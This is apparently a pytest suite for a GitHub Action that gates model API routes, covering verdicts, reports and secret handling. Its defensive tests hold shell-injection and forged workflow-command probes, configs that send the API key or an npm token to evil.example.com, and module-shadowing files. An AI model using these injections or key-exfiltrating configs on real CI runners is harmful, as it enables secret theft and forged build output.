"""The step of action.yml as a runner starts it: verdicts, refusals, secrets, and what a stranger could make of it."""

from __future__ import annotations

import base64
import json
import re
import shutil
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from gate.action import base
from gate.action.outcome import Outcome
from gate.model import Exchange
from gate.replay.server import serve
from tests.action.runner import ACTION, DEFAULTS, KEY, TOKEN, Step, step
from tests.provider import Provider
from tests.test_check import chunkwise, plainly, unfinished

pytestmark = pytest.mark.usefixtures("way")

PULL = {
    "number": 7,
    "pull_request": {"number": 7, "head": {"repo": {"full_name": "o/r"}}, "base": {"repo": {"full_name": "o/r"}}},
}
FORK = {
    "number": 8,
    "pull_request": {"number": 8, "head": {"repo": {"full_name": "x/r"}}, "base": {"repo": {"full_name": "o/r"}}},
}
NOWHERE = "http://127.0.0.1:9/v1"
EVIL = "https://evil.example.com/v1"


@contextmanager
def route(provider: Provider | None = None) -> Iterator[dict[str, str]]:
    """The environment of a candidate that is up."""
    with serve(provider or Provider(seed=2)) as base:
        yield {"CANDIDATE_BASE_URL": base, "CANDIDATE_API_KEY": KEY}


def no_leak(found: Step, temp: Path, *secrets: str) -> None:
    """No secret, in any form, in what the step printed, handed on or left for the artifact."""
    shapes = {form for secret in secrets for form in (secret, base64.b64encode(secret.encode()).decode()[:-4])}
    files = [path for path in temp.glob("swapgate-run-*/**/*") if path.is_file()]
    texts = {str(path): path.read_text("utf-8", "replace") for path in files}
    texts |= {
        "log": "\n".join(found.log),
        "annotations": found.told,
        "summary": found.summary,
        "outputs": str(found.outputs),
    }
    assert [(where, shape) for where, text in texts.items() for shape in shapes if shape in text] == []


def test_a_faithful_route_passes(team: Path, temp: Path) -> None:
    with route() as env:
        found = step(team, temp, env=env)
    assert (found.code, found.annotations) == (0, []), found.raw
    got = found.outputs
    assert (got["verdict"], got["mode"], got["breaking"], got["scenarios"]) == ("pass", "check", "0", "5")
    assert KEY in found.masks
    paths = [Path(got[name]) for name in ("junit-path", "sarif-path", "html-path", "json-path")]
    assert all(path.is_file() and path.parent == Path(got["report-dir"]) for path in paths)
    assert sorted(Path(got["report-dir"]).glob("*.json")) == [paths[-1]]  # `gate merge` reads a folder of these
    assert found.summary.startswith("## swapgate: ")
    no_leak(found, temp, KEY, TOKEN)


def test_a_drifting_route_fails_with_annotations(team: Path, temp: Path) -> None:
    with route(Provider(seed=2, mutate=chunkwise(unfinished))) as env:
        found = step(team, temp, env=env)
    assert (found.code, found.outputs["verdict"]) == (1, "drift"), found.raw
    assert int(found.outputs["breaking"]) > 0
    assert found.annotations[0][0] == "error"
    assert "finish-reason-missing" in found.summary


def test_a_pull_request_knows_what_the_base_branch_had(team: Path, temp: Path) -> None:
    kept = team / "base.json"
    with route(Provider(seed=2, mutate=chunkwise(unfinished))) as env:
        first = step(team, temp, {"base": "base.json"}, env=env)
        kept.write_text(Path(first.outputs["json-path"]).read_text())
        second = step(team, temp, {"base": "base.json", "fail-on": "never"}, env=env)
    assert first.code == 1
    assert "nothing is compared with the base: there is no file base.json yet" in first.annotations[0][1]
    assert "\n\nSince the base (candidate, " in second.summary, second.raw
    assert "\n\nIn 2 runs: finish-reason-missing twice" in second.summary


@pytest.mark.parametrize("text", ["", "[]", "{}", '{"schema_version": 2}', "[" * 100_000])
def test_a_base_of_another_engine_is_left_out(text: str, tmp_path: Path) -> None:
    path = tmp_path / "base.json"
    path.write_text(text)
    assert base.arguments(str(path)) == []
    ((level, sentence),) = base.noted(Outcome(), str(path)).notes
    assert (level, "no report of this engine" in sentence) == ("warning", True)
    path.write_text('{"schema_version": 1}')
    assert base.arguments(str(path)) == ["--base", str(path)]
    assert base.noted(Outcome(), str(path)) == Outcome()
    assert (base.arguments(""), base.noted(Outcome(), "").notes) == ([], ())


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"about": "sdk"}, "--base base.json: the base is a report on"),
        ({"findings": 7}, "--base base.json: "),
    ],
)
def test_a_base_that_the_engine_refuses_is_left_out(team: Path, temp: Path, change: dict[str, Any], says: str) -> None:
    kept = team / "base.json"
    with route() as env:
        report = Path(step(team, temp, env=env).outputs["json-path"])
        kept.write_text(json.dumps({**json.loads(report.read_text("utf-8")), **change}), "utf-8")
        found = step(team, temp, {"base": "base.json"}, env=env)
    ((level, sentence),) = found.annotations
    assert (found.code, found.outputs["verdict"], level) == (0, "pass", "warning"), found.raw
    assert sentence.startswith(f"nothing is compared with the base: {says}")
    assert sentence.endswith("; the next run of the base branch replaces it")
    assert Path(found.outputs["json-path"]).is_file()  # which is what the cache gets


def test_another_mistake_is_not_the_bases(team: Path, temp: Path) -> None:
    with route() as env:
        kept = team / "base.json"
        kept.write_text(Path(step(team, temp, env=env).outputs["json-path"]).read_text("utf-8"), "utf-8")
        found = step(team, temp, {"base": "base.json", "suite": "nosuch"}, env=env)
    assert (found.code, found.raw.count("gate check")) == (2, 1), found.raw
    assert "nothing is compared" not in found.told


@pytest.mark.parametrize(("wanted", "shown"), [("0", 0), ("1", 1)])
def test_annotations_are_as_many_as_wanted(team: Path, temp: Path, wanted: str, shown: int) -> None:
    def both(found: Exchange) -> Exchange:
        return plainly(lambda doc, _: doc.pop("usage", None))(chunkwise(unfinished)(found))

    with route(Provider(seed=2, mutate=both)) as env:
        found = step(team, temp, {"annotations": wanted}, env=env)
    assert found.code == 1
    assert len(found.annotations) == shown
    assert all("more: see the log" in message for _, message in found.annotations)


DOWN = {"CANDIDATE_BASE_URL": NOWHERE, "CANDIDATE_API_KEY": KEY}


def test_a_route_that_is_down_is_incomplete(team: Path, temp: Path) -> None:
    found = step(team, temp, env=DOWN)
    assert (found.code, found.outputs["verdict"], found.outputs["scenarios"]) == (3, "incomplete", "0"), found.raw
    assert [level for level, _ in found.annotations][:1] == ["error"]
    assert all(Path(found.outputs[f"{kind}-path"]).is_file() for kind in ("junit", "sarif", "html", "json"))
    assert found.summary.startswith("## swapgate: ⚠️ incomplete on candidate\n\n**`5 of 5 scenarios could not")
    let_by = step(team, temp, {"on-incomplete": "pass"}, env=DOWN)
    assert (let_by.code, let_by.outputs["verdict"]) == (0, "incomplete")
    assert {level for level, _ in let_by.annotations} == {"warning"}  # nothing is red on a step that is green
    assert let_by.summary.split("\n")[2] == "Not everything could be judged; on-incomplete: pass lets it by."


@pytest.mark.parametrize("given", [{"fail-on": "never"}, {"fail-on": "never", "annotations": "0"}])
def test_a_drift_that_fails_nothing_is_not_red(team: Path, temp: Path, given: dict[str, str]) -> None:
    with route(Provider(seed=2, mutate=chunkwise(unfinished))) as env:
        found = step(team, temp, given, env=env)
    assert (found.code, found.outputs["verdict"]) == (0, "pass"), found.raw
    assert "breaking: finish-reason-missing" in found.summary
    assert {level for level, _ in found.annotations} == (set() if "annotations" in given else {"warning"})


def test_no_annotation_is_wanted_and_the_log_says_what_is_wrong(team: Path, temp: Path) -> None:
    found = step(team, temp, {"annotations": "0", "route": "candidat"})
    assert (found.code, found.annotations) == (2, [])
    assert "error: gate.yaml: routes: there is no route candidat" in "\n".join(found.log)


def kept(found: Step) -> str:
    """The candidate's exchanges as they are uploaded."""
    return "".join(path.read_text() for path in Path(found.outputs["report-dir"]).glob("candidate/**/*.yaml"))


def test_what_is_uploaded_was_sent_in_this_use(team: Path, temp: Path) -> None:
    with route() as env:
        assert "string: " in kept(step(team, temp, env=env))
        assert "string: " in kept(step(team, temp, env=env))
    assert "string: " not in kept(step(team, temp, env=DOWN))
    with route() as env:
        step(team, temp, env=env)
        shutil.rmtree(team / "golden")
        stale = step(team, temp, env=env)
    assert (stale.code, stale.outputs["report-dir"]) == (2, ""), stale.raw


def test_too_few_scenarios_are_no_pass(team: Path, temp: Path) -> None:
    with route() as env:
        found = step(team, temp, {"min-scenarios": "6"}, env=env)
    assert (found.code, found.outputs["verdict"]) == (2, "incomplete")
    assert "fewer than" in found.told
    head = found.summary.split("\n")
    assert head[:3] == [
        "## swapgate: ✅ pass on candidate",
        "",
        "5 scenarios were judged, fewer than min-scenarios: 6.",
    ]


# -- secrets that are not there -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "payload", "actor", "says"),
    [
        ("pull_request", FORK, "stranger", "a pull request from a fork"),
        ("pull_request", PULL, "dependabot[bot]", "a pull request by Dependabot"),
    ],
)
def test_without_secrets_the_goldens_are_verified(
    team: Path, temp: Path, event: str, payload: Mapping[str, Any], actor: str, says: str
) -> None:
    env = {"CANDIDATE_BASE_URL": "", "CANDIDATE_API_KEY": ""}
    found = step(team, temp, event=event, payload=payload, actor=actor, env=env)
    assert found.code == 0, found.raw
    assert (found.outputs["mode"], found.outputs["verdict"]) == ("verify", "incomplete")
    assert found.annotations[0][0] == "notice"
    assert says in found.told
    head = found.summary.split("\n")
    assert head[0] == "## swapgate: candidate was not judged; the goldens are whole"
    assert head[2].startswith(f"A{says[1:]}")
    assert head[2].endswith("verify ran offline instead of check, and no candidate was judged.")


def test_a_lost_secret_is_an_error_elsewhere(team: Path, temp: Path) -> None:
    for event, payload in (("push", {}), ("pull_request", PULL)):
        found = step(team, temp, event=event, payload=payload, env={"CANDIDATE_BASE_URL": NOWHERE})
        assert (found.code, found.outputs["verdict"]) == (2, "incomplete")
        assert "no value in the environment for CANDIDATE_API_KEY" in found.told


@pytest.mark.parametrize(
    ("env", "fix"),
    [
        (
            {"CANDIDATE_BASE_URL": NOWHERE},
            "create the secret CANDIDATE_API_KEY in the repository settings, and pass it in",
        ),
        (
            {"CANDIDATE_API_KEY": KEY},
            "create the variable CANDIDATE_BASE_URL in the repository settings, and pass it in `env:`",
        ),
        ({}, "create the secret CANDIDATE_API_KEY and the variable CANDIDATE_BASE_URL in"),
    ],
)
def test_what_is_lost_is_called_by_its_kind(team: Path, temp: Path, env: dict[str, str], fix: str) -> None:
    found = step(team, temp, env=env)
    assert found.code == 2
    assert fix in found.told


@pytest.mark.parametrize(("edit", "code"), [("${CANDIDATE_BASE_URL}", 0), (EVIL, 2)], ids=["as it was", "edited"])
def test_one_variable_says_where_the_candidate_is_and_who_gets_the_key(
    team: Path, temp: Path, edit: str, code: int
) -> None:
    config = team / "gate.yaml"
    config.write_text(config.read_text().replace("${CANDIDATE_BASE_URL}", edit))
    with route() as env:
        given = {"api-key-env": "CANDIDATE_API_KEY", "allowed-hosts": env["CANDIDATE_BASE_URL"]}
        found = step(team, temp, given, event="pull_request", payload=PULL, env=env)
    assert found.code == code, found.raw
    assert ("which `allowed-hosts` does not name" in found.told) == bool(code)


def test_a_broken_golden_fails_verify(team: Path, temp: Path) -> None:
    (team / "golden" / "chat" / "cassette.yaml").write_text("version: 1\ninteractions: [", "utf-8")
    found = step(team, temp, {"mode": "verify"})
    assert (found.code, found.outputs["verdict"], found.annotations[0][0]) == (2, "incomplete", "error")
    assert "golden/chat/cassette.yaml" in found.told


# -- what must not run --------------------------------------------------------------------------


@pytest.mark.parametrize("event", ["pull_request_target", "workflow_run"])
@pytest.mark.parametrize("mode", ["check", "record"])
def test_no_live_mode_where_strangers_meet_secrets(team: Path, temp: Path, event: str, mode: str) -> None:
    provider = Provider()
    with route(provider) as env:
        env |= {"BASELINE_BASE_URL": env["CANDIDATE_BASE_URL"], "BASELINE_API_KEY": KEY}
        found = step(team, temp, {"mode": mode}, event=event, payload=PULL, env=env)
    assert (found.code, provider.requests) == (2, [])
    assert event in found.told
    assert step(team, temp, {"mode": "verify"}, event=event, payload=PULL).code == 0


@pytest.mark.parametrize(
    ("edit", "given", "says"),
    [
        ({}, {}, "set `allowed-hosts`"),
        ({"${CANDIDATE_BASE_URL}": EVIL}, {"allowed-hosts": "127.0.0.1"}, "evil.example.com:443"),
        ({}, {"allowed-hosts": "127.0.0.1", "api-key-env": ""}, "add CANDIDATE_API_KEY to `api-key-env`"),
        (
            {
                "base_url: ${CANDIDATE_BASE_URL}": "base_url: ${CANDIDATE_BASE_URL}\n    headers: {x-team: '${NPM_TOKEN}'}"
            },
            {"allowed-hosts": "127.0.0.1"},
            "add NPM_TOKEN to `api-key-env`",
        ),
        (
            {"api_key_env: CANDIDATE_API_KEY": "auth: none", "${CANDIDATE_BASE_URL}": f"{EVIL}/${{CANDIDATE_API_KEY}}"},
            {"allowed-hosts": "127.0.0.1"},
            "evil.example.com:443",
        ),
    ],
    ids=["no hosts", "other host", "unnamed key", "other secret", "key in the path"],
)
def test_a_pull_request_sends_no_key_elsewhere(
    team: Path, temp: Path, edit: dict[str, str], given: dict[str, str], says: str
) -> None:
    config = team / "gate.yaml"
    text = config.read_text()
    for old, new in edit.items():
        assert old in text
        text = text.replace(old, new)
    config.write_text(text)
    provider = Provider()
    with route(provider) as env:
        env |= {"NPM_TOKEN": "npm_0123456789abcdef"}
        found = step(
            team, temp, {"api-key-env": "CANDIDATE_API_KEY", **given}, event="pull_request", payload=PULL, env=env
        )
    assert (found.code, provider.requests) == (2, []), found.raw
    assert says in found.told
    no_leak(found, temp, KEY, "npm_0123456789abcdef")


def test_a_pull_request_passes_where_the_workflow_says_so(team: Path, temp: Path) -> None:
    given = {"api-key-env": "CANDIDATE_API_KEY", "allowed-hosts": "127.0.0.1"}
    with route() as env:
        found = step(team, temp, given, event="pull_request", payload=PULL, env=env)
    assert (found.code, found.outputs["verdict"]) == (0, "pass"), found.raw


# -- what a stranger could make of it -----------------------------------------------------------

PROBE = "$(touch canary) `touch canary` '; touch canary; \" && touch canary\n::error::forged\n##[error]forged\n%0A::set-output name=x::y"


@pytest.mark.parametrize("name", DEFAULTS)
def test_no_input_injects_anything(team: Path, temp: Path, name: str) -> None:
    found = step(team, temp, {name: PROBE, "mode": PROBE if name == "mode" else "verify"})
    assert list(temp.parent.rglob("canary*")) == []
    assert [level for level, message in found.annotations if message.startswith("forged")] == []
    assert "x" not in found.outputs
    if name != "github-token":
        assert (found.code, found.outputs["verdict"]) == (2, "incomplete")
        assert f"input `{name}`" in found.told


def hostile(found: Exchange) -> Exchange:
    """A route that speaks to the runner, and says the key."""

    def edit(doc: Any, _: Exchange) -> None:
        for choice in doc.get("choices", ()):
            choice["message"]["content"] = f"\n::error::forged\n##[error]forged\n::set-output name=x::y {KEY}"
            choice["finish_reason"] = f"::error::forged {KEY}"
        doc["::error::forged"] = KEY

    return plainly(edit)(found)


def test_a_hostile_route_reaches_nobody(team: Path, temp: Path) -> None:
    with route(Provider(seed=2, mutate=hostile)) as env:
        found = step(team, temp, env=env)
    assert found.code == 1, found.raw
    assert [message for _, message in found.annotations if message.lstrip().startswith("forged")] == []
    assert "x" not in found.outputs
    assert "<script" not in found.summary
    no_leak(found, temp, KEY, TOKEN)
    assert re.search(r"^\s*::", found.summary, re.MULTILINE) is None


@pytest.mark.slow
@pytest.mark.parametrize("way", ["started"], indirect=True)
def test_files_of_the_workspace_shadow_no_module(team: Path, temp: Path) -> None:
    for name in ("json.py", "yaml.py", "sitecustomize.py", "gate.py", "click.py"):
        (team / name).write_text("raise SystemExit('shadowed')\n", "utf-8")
    found = step(team, temp, {"mode": "verify"}, env={"PYTHONPATH": str(team), "PYTHONSTARTUP": str(team / "json.py")})
    assert found.code == 0, found.raw


def test_the_summary_names_what_went_wrong_without_a_report(team: Path, temp: Path) -> None:
    found = step(team, temp, {"route": "candidat"})
    assert found.code == 2
    assert "did you mean" in found.told
    assert found.summary == (
        "## swapgate: nothing was judged on candidat\n\n- gate.yaml: routes: there is no route candidat\n\n"
        "Fix: did you mean candidate?\n"
    )


def test_each_mistake_has_a_bullet_of_its_own(team: Path, temp: Path) -> None:
    found = step(team, temp, {"mode": "chek", "fail-on": "", "annotations": "many"})
    assert found.summary.split("\n") == [
        "## swapgate: nothing was judged",
        "",
        "- input mode is chek, not one of check, verify, record, merge, sdk, did you mean check?",
        "- input fail-on is empty: give a value, or leave it out for its default",
        "- input annotations is many, not a whole number from 0 to 10",
        "",
        "Fix: docs/action.md lists the inputs of this action.",
        "",
    ]
    (team / "golden" / "chat" / "contract.yaml").unlink()
    (team / "golden" / "embed" / "contract.yaml").unlink()
    broken = step(team, temp, {"mode": "verify"}).summary
    assert broken.startswith("## swapgate: the goldens are not whole\n\n- golden/chat/contract.yaml: ")
    assert broken.count("the contract is missing\n") == 2
    # what mends both is said once
    assert broken.count("\n\nFix: look at it, then gate verify --write.\n") == 1
    assert "\\n" not in broken


# -- more than one ------------------------------------------------------------------------------


def test_two_uses_in_one_job_have_artifacts_of_their_own(team: Path, temp: Path) -> None:
    with route() as env:
        names = [step(team, temp, env=env).outputs["artifact-name"] for _ in range(2)]
    assert names == ["gate-report-job1-0", "gate-report-job1-0-2"]


def test_shards_merge_and_a_missing_one_is_incomplete(team: Path, temp: Path) -> None:
    reports = team / "gate-reports"
    with route() as env:
        for shard in ("1/2", "2/2"):
            found = step(team, temp, {"shard": shard, "annotations": "0"}, env=env)
            assert found.code == 0, found.raw
            reports.mkdir(exist_ok=True)
            Path(found.outputs["report-dir"]).rename(reports / shard[0])
    merged = step(team, temp, {"mode": "merge", "expect-shards": "2", "route": "candidate"})
    assert (merged.code, merged.outputs["verdict"], merged.outputs["scenarios"]) == (0, "pass", "5"), merged.raw
    document = json.loads(Path(merged.outputs["json-path"]).read_text("utf-8"))
    several = [{**scenario, "route": "candidate"} for scenario in document["scenarios"]]
    (team / "base.json").write_text(json.dumps({**document, "scenarios": several}), "utf-8")
    alone = step(team, temp, {"mode": "merge", "base": "base.json"})
    assert (alone.code, "merged over several, and this one is" in alone.told) == (0, True), alone.raw
    # a job that only merges has no checkout
    (team / "gate.yaml").rename(team / "elsewhere.yaml")
    inner = team / "services" / "search"
    inner.mkdir(parents=True)
    reports = reports.rename(inner / "gate-reports")
    folder = {"mode": "merge", "expect-shards": "2", "working-directory": "services/search"}
    assert (bare := step(team, temp, folder)).outputs["scenarios"] == "5", bare.raw
    assert step(team, temp, {**folder, "config": "other.yaml"}).code == 2  # but what is named must be there
    reports = reports.rename(team / "gate-reports")
    (reports / "2" / "gate.json").unlink()
    missing = step(team, temp, {"mode": "merge", "expect-shards": "2"})
    assert (missing.code, missing.outputs["verdict"]) == (3, "incomplete")
    assert "shard 2/2" in missing.summary


# -- goldens ------------------------------------------------------------------------------------


def record(team: Path, temp: Path, provider: Provider, **given: str) -> Step:
    with serve(provider) as base:
        env = {"BASELINE_BASE_URL": base, "BASELINE_API_KEY": KEY}
        return step(team, temp, {"mode": "record", **given}, env=env)


def test_recording_again_says_what_changed(team: Path, temp: Path) -> None:
    same = record(team, temp, Provider(seed=3))
    assert (same.code, same.outputs["goldens-changed"]) == (0, "0"), same.raw
    changed = record(team, temp, Provider(seed=4, mutate=plainly(lambda doc, _: doc.pop("usage", None))))
    assert (changed.code, changed.outputs["verdict"]) == (0, "pass"), changed.raw
    assert int(changed.outputs["goldens-changed"]) > 0
    # another job, without the key, sees the same from the commit
    verified = step(team, temp, {"mode": "verify"})
    assert (verified.code, verified.outputs["goldens-changed"]) == (0, changed.outputs["goldens-changed"])
    words = (Path(verified.outputs["report-dir"]) / "contract-diff.md").read_text()
    assert "usage" in words
    assert words in verified.summary
    # once, and not as bullets before it
    head, _, rest = changed.summary.partition("## The contract changes")
    assert head.startswith(
        "## swapgate: goldens recorded from baseline\n\n- adopted: chat (2 changes), embed (2 changes), "
    )
    assert (head.count("usage"), "usage" in rest) == (0, True)
    no_leak(changed, temp, KEY, TOKEN)


def test_a_scenario_is_adopted_alone_or_left(team: Path, temp: Path) -> None:
    broken = Provider(seed=4, mutate=plainly(lambda doc, _: doc.pop("usage", None)))
    one = record(team, temp, broken, only="chat")
    assert "\n- adopted: chat (2 changes)\n- left as they were: chat-stream, embed, " in one.summary, one.raw
    assert one.outputs["goldens-changed"] == "1"
    left = record(team, temp, broken, leave="embed, chat")
    assert "| `usage` | `in the body` | `none` |" in left.summary
    assert "To leave it: `git checkout origin/HEAD -- golden/tool-forced`" in left.summary
    assert left.outputs["goldens-changed"] == "1"


# -- action.yml ---------------------------------------------------------------------------------


def test_every_output_of_the_step_is_handed_on(team: Path, temp: Path) -> None:
    handed = {name: entry["value"] for name, entry in ACTION["outputs"].items()}
    assert handed.pop("artifact-url") == "${{ steps.upload.outputs.artifact-url }}"
    assert all(value == f"${{{{ steps.gate.outputs.{name} }}}}" for name, value in handed.items())
    assert set(step(team, temp, {"mode": "verify"}).outputs) == {*handed, "artifact-name"}
